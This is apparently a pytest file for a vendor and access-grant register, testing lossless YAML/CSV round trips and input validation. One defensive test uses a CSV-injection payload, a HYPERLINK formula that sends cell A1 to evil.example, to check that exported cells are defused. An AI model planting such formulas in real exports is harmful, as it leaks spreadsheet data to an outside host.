"""Import and export of the register: YAML → database → CSV gives the rows written here by hand, CSV →
another database → YAML gives the same records (lossless), and bad input is refused whole, each problem
named by file, row and field, nothing stored."""

from __future__ import annotations

from pathlib import Path

import pytest

from sekimori.govern import Register, RegisterError, read_register, write_register, yaml_text
from tests.govern.conftest import ALICE, REGISTER_YAML

# The export of REGISTER_YAML, written by hand: rows by id, lists joined by ';', no value as an empty cell.
PARTIES_CSV = """\
id,name,kind,country,parent,reentrustment_approved_by,reentrustment_approved_on,contacts,risk_tier,notes
aff,Affiliate KK,affiliate,JP,,,,soumu@aff.example.jp,high,
ctr,Contractor A,contractor,JP,,,,it@ctr.example.jp;Taro Yamada <taro@ctr.example.jp>,medium,
parent,Parent Corp,parent,JP,,,,,low,
sub,Sub-contractor B,subcontractor,VN,ctr,hanako,2025-04-01,,high,call centre overflow
"""
CONTRACTS_CSV = """\
id,party,entrusting,purpose,data_categories,data_items,people,start,end,reentrustment_allowed,\
safety_clauses,audit_rights,status,systems
C-1,ctr,parent,customer support,customers,name;phone;address,120000,2025-01-01,2026-12-31,true,\
access control;logging;deletion on end,true,active,crm
"""
GRANTS_CSV = """\
id,party,subject_kind,subject,object_kind,object,access,justification,owner,contract,created,expires
G-AFF,aff,organisation,aff.example.jp,host,fs01.corp.example.jp,network,shared file server,kenji,,2024-04-01,
G-AR,ctr,account,aragorn@lotr.com,system,crm,application,support tickets,hanako,C-1,2025-01-01,2026-12-31
G-OLD,ctr,group,ctr-admins,application,Billing,application,migration,hanako,C-1,2024-01-01,2024-12-31
"""


def test_yaml_in_csv_out_gives_the_hand_written_rows(register: Register, register_file: Path, tmp_path: Path):
    report = register.import_records(read_register(register_file), ALICE, source="register.yaml")
    assert report.inserted == {
        "parties": ["aff", "ctr", "parent", "sub"],
        "contracts": ["C-1"],
        "grants": ["G-AFF", "G-AR", "G-OLD"],
    }
    assert report.audit_seq == 1
    out = tmp_path / "csv"
    write_register(register.records(), out)
    assert (out / "parties.csv").read_text(encoding="utf-8") == PARTIES_CSV
    assert (out / "contracts.csv").read_text(encoding="utf-8") == CONTRACTS_CSV
    assert (out / "grants.csv").read_text(encoding="utf-8") == GRANTS_CSV


def test_csv_back_into_another_database_is_lossless(register: Register, register_file: Path, tmp_path: Path):
    register.import_records(read_register(register_file), ALICE)
    first = register.records()
    folder = tmp_path / "csv"
    write_register(first, folder)
    with Register(f"sqlite:///{tmp_path / 'second.db'}") as second:
        second.import_records(read_register(folder), ALICE)
        assert second.records() == first
        yaml_path = tmp_path / "again.yaml"
        write_register(second.records(), yaml_path)
    # The YAML export read back holds the same records as the hand-written YAML.
    again = read_register(yaml_path)
    original = read_register(register_file)
    for kind in ("parties", "contracts", "grants"):
        assert sorted((x.record for x in again[kind]), key=lambda r: r.row()["id"]) == sorted(
            (x.record for x in original[kind]), key=lambda r: r.row()["id"]
        )
    assert yaml_text(first) == yaml_path.read_text(encoding="utf-8")


def test_reimport_changes_only_what_differs(register: Register, register_file: Path, tmp_path: Path):
    register.import_records(read_register(register_file), ALICE)
    changed = tmp_path / "changed.yaml"
    changed.write_text(REGISTER_YAML.replace("people: 120000", "people: 130000"), encoding="utf-8")
    report = register.import_records(read_register(changed), ALICE)
    assert report.inserted == {} and report.deleted == {}
    assert report.updated == {"contracts": ["C-1"]}
    assert report.unchanged == {"parties": 4, "contracts": 0, "grants": 3}
    assert register.contracts()[0].people == 130000


def _problems(path: Path) -> list[str]:
    with pytest.raises(RegisterError) as caught:
        read_register(path)
    return [str(p) for p in caught.value.problems]


def test_bad_csv_cells_named_by_file_row_and_field(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    contracts = folder / "contracts.csv"
    lines = CONTRACTS_CSV.splitlines()
    good = lines[1]
    bad_date = good.replace("C-1,", "C-2,").replace("2025-01-01", "2025-13-01")
    ends_early = good.replace("C-1,", "C-3,").replace("2026-12-31", "2024-12-31")
    bad_bool = good.replace("C-1,", "C-4,").replace(",true,access", ",perhaps,access")
    contracts.write_text("\n".join([lines[0], good, bad_date, ends_early, bad_bool]) + "\n", encoding="utf-8")
    problems = _problems(folder)
    assert len(problems) == 3
    assert problems[0].startswith(f"{contracts} row 3 field start: ")
    assert problems[1] == (
        f"{contracts} row 4 field end: expected a day on or after the start (2025-01-01), got 2024-12-31"
    )
    assert problems[2].startswith(f"{contracts} row 5 field reentrustment_allowed: ")


def test_unknown_csv_column_named_on_the_header_row(tmp_path: Path):
    path = tmp_path / "grants.csv"
    path.write_text(GRANTS_CSV.replace("expires", "expiry"), encoding="utf-8")
    problems = _problems(path)
    assert len(problems) == 1
    assert problems[0].startswith(f"{path} row 1 field expiry: unknown column; known: id, party")


def test_yaml_problems_named_by_the_line_of_their_item(tmp_path: Path):
    path = tmp_path / "bad.yaml"
    # Line 2: the first party; line 3 its 'country' (not a country code); line 6 a list item with ';'.
    path.write_text(
        "parties:\n"
        "  - id: p1\n"
        "    name: P1\n"
        "    kind: contractor\n"
        "    country: Japan\n"
        "    risk_tier: low\n"
        "  - {id: p2, name: P2, kind: partner, country: JP, risk_tier: low, contacts: ['a;b']}\n",
        encoding="utf-8",
    )
    problems = _problems(path)
    assert problems[0].startswith(f"{path} row 2 field country: String should match pattern")
    assert problems[1].startswith(f"{path} row 7 field kind: Input should be 'parent', 'subsidiary'")
    assert problems[2] == f"{path} row 7 field contacts: item 1: expected no ';' in a list item, got 'a;b'"
    assert len(problems) == 3


def test_bad_references_refuse_the_whole_import(register: Register, register_file: Path, tmp_path: Path):
    register.import_records(read_register(register_file), ALICE)
    before, entries = register.records(), register.verify().entries
    path = tmp_path / "more.yaml"
    path.write_text(
        "parties:\n"
        "  - {id: new, name: New KK, kind: contractor, country: JP, risk_tier: low}\n"
        "grants:\n"
        "  - id: G-X\n"
        "    party: nobody\n"
        "    subject_kind: account\n"
        "    subject: x@new.example.jp\n"
        "    object_kind: host\n"
        "    object: h1\n"
        "    access: interactive\n"
        "    justification: j\n"
        "    owner: hanako\n"
        "    contract: C-9\n"
        "    created: 2025-01-01\n"
        "  - {id: G-AR, party: new, subject_kind: account, subject: a@b, object_kind: host, object: h,\n"
        "     access: batch, justification: j, owner: o, created: 2025-01-01}\n"
        "  - {id: G-AR, party: new, subject_kind: account, subject: a@b, object_kind: host, object: h,\n"
        "     access: batch, justification: j, owner: o, created: 2025-01-01}\n",
        encoding="utf-8",
    )
    with pytest.raises(RegisterError) as caught:
        register.import_records(read_register(path), ALICE, source=str(path))
    assert [str(p) for p in caught.value.problems] == [
        f"{path} row 17 field id: 'G-AR' repeats {path} row 15",
        f"{path} row 4 field party: unknown party 'nobody'",
        f"{path} row 4 field contract: unknown contract 'C-9'",
    ]
    # Nothing of it stored (not even the good party), no audit entry, the chain intact.
    assert register.records() == before
    report = register.verify()
    assert report.ok and report.entries == entries


def test_replace_refuses_to_orphan_what_it_keeps(register: Register, register_file: Path, tmp_path: Path):
    register.import_records(read_register(register_file), ALICE)
    path = tmp_path / "parties.csv"
    path.write_text(PARTIES_CSV.replace("aff,Affiliate KK,affiliate,JP,,,,soumu@aff.example.jp,high,\n", ""))
    with pytest.raises(RegisterError, match="stored grant 'G-AFF' names 'aff', which the import deletes"):
        register.import_records(read_register(path), ALICE, replace=True)
    assert [p.id for p in register.parties()] == ["aff", "ctr", "parent", "sub"]


def test_a_reentrustment_chain_that_loops_is_refused(register: Register, tmp_path: Path):
    path = tmp_path / "loop.yaml"
    path.write_text(
        "parties:\n"
        "  - {id: a, name: A, kind: subcontractor, country: JP, risk_tier: low, parent: b}\n"
        "  - {id: b, name: B, kind: subcontractor, country: JP, risk_tier: low, parent: a}\n",
        encoding="utf-8",
    )
    with pytest.raises(RegisterError) as caught:
        register.import_records(read_register(path), ALICE)
    assert [str(p) for p in caught.value.problems] == [
        f"{path} row 2 field parent: the re-entrustment chain of 'a' comes back to 'a'",
        f"{path} row 3 field parent: the re-entrustment chain of 'b' comes back to 'b'",
    ]
    assert register.parties() == []


def test_csv_cells_a_spreadsheet_would_run_are_defused_and_read_back(tmp_path):
    """CSV injection: a party named like a formula is written as text (leading apostrophe), and a
    round trip gives the name back unchanged."""
    from sekimori.govern import csv_text, read_csv

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    (tmp_path / "parties.csv").write_text(
        "id,name,kind,country,risk_tier\n"
        + f'p1,"{hostile.replace(chr(34), chr(34) * 2)}",contractor,JP,high\n',
        encoding="utf-8",
    )
    (read,) = read_csv(tmp_path / "parties.csv")
    assert read.record.name == hostile
    written = csv_text("parties", [read.record])
    line = written.splitlines()[1]
    assert line.startswith("p1,") and ",\"'=HYPERLINK(" in line
    (tmp_path / "again").mkdir()
    (tmp_path / "again" / "parties.csv").write_text(written, encoding="utf-8")
    (again,) = read_csv(tmp_path / "again" / "parties.csv")
    assert again.record.name == hostile
